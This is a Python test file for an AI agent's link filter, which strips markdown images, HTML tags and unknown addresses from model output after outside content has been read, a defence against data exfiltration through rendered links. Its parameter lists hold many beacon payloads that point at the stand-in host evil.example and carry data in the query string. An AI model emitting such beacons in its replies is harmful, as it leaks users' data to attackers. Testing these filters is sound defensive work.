"""What of a model's text would send data when it is shown, and what of it stays."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.inference.link_filter import LinkFilter
from tests.fakes.run.property_budget import example_settings

STRICT = LinkFilter(
    own=("Sum up https://mine.example/page?q=1 please",),
    read=("[plan](https://found.example/plan?token=1), https://found.example/",),
    is_strict=True,
)
CALM = LinkFilter()
EVIL = "https://evil.example/p.png?d=84200"


@pytest.mark.parametrize(
    "beacon",
    [
        f"![a picture]({EVIL})",
        f"![a picture](<{EVIL}>)",
        f'![a picture]({EVIL} "title")',
        "![a picture][1]",
        f"<img src='{EVIL}' alt='a picture'>",
        f'< IMG alt="a picture" src="{EVIL}" />',
    ],
)
@pytest.mark.parametrize("links", [STRICT, CALM])
def test_an_image_becomes_its_description(links: LinkFilter, beacon: str) -> None:
    assert links.clean(f"Here: {beacon}.") == "Here: a picture."


@pytest.mark.parametrize(
    "text",
    [
        f"[here]({EVIL})",
        f"[ref]: {EVIL}",
        f"see {EVIL}",
        f"![a\nb]({EVIL})",
        f"![a[b]]({EVIL})",
        f"[![a]({EVIL})]({EVIL})",
        f'<a href="{EVIL}">x</a>',
        f"<iframe src={EVIL}></iframe>",
        "[x](//evil.example/84200)",
        "[x](https://84200.evil.example/)",
        f"`![a]({EVIL})`",
        "[x](https:evil.example/?d=84200)",
    ],
)
def test_an_address_that_nobody_gave_is_gone_once_something_from_outside_was_read(text: str) -> None:
    clean = STRICT.clean(text)
    assert "evil.example" not in clean
    assert "![" not in clean


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("[it](https://mine.example/page?q=1)", "[it](https://mine.example/page?q=1)"),
        ("https://mine.example/page?q=1.", "https://mine.example/page?q=1."),
        ("[plan](https://found.example/plan)", "[plan](https://found.example/plan)"),
        ("[plan](https://found.example/plan?token=2)", "[plan](https://found.example/plan)"),
        ("[plan](https://found.example/84200)", "plan (found.example)"),
        ("[mail](mailto:a@b.example?body=84200)", "[mail](mailto:a@b.example)"),
        ("a [1], <b>bold</b>, 3 < 5 and f(x)[2]!", "a [1], <b>bold</b>, 3 < 5 and f(x)[2]!"),
    ],
)
def test_an_address_that_was_read_stays_without_what_was_added(text: str, clean: str) -> None:
    assert STRICT.clean(text) == clean


def test_without_text_from_outside_links_stay_and_code_is_left_alone() -> None:
    text = "Write `![alt](https://x.example/y.png)`, see [the docs](https://docs.example/3/re.html#flags)."
    assert CALM.clean(text).startswith(
        "Write `![alt](https://x.example/y.png)`, see [the docs](https://docs."
    )


@example_settings(200)
@given(st.text(alphabet="![]()<>abhtps:/.?= \n", max_size=60))
def test_a_beginning_never_shows_more_than_the_whole_text_allows(text: str) -> None:
    for end in range(len(text) + 1):
        shown = STRICT.clean_beginning(text[:end])
        assert "![" not in shown
        assert not re.search(r"//[a-z]", shown)
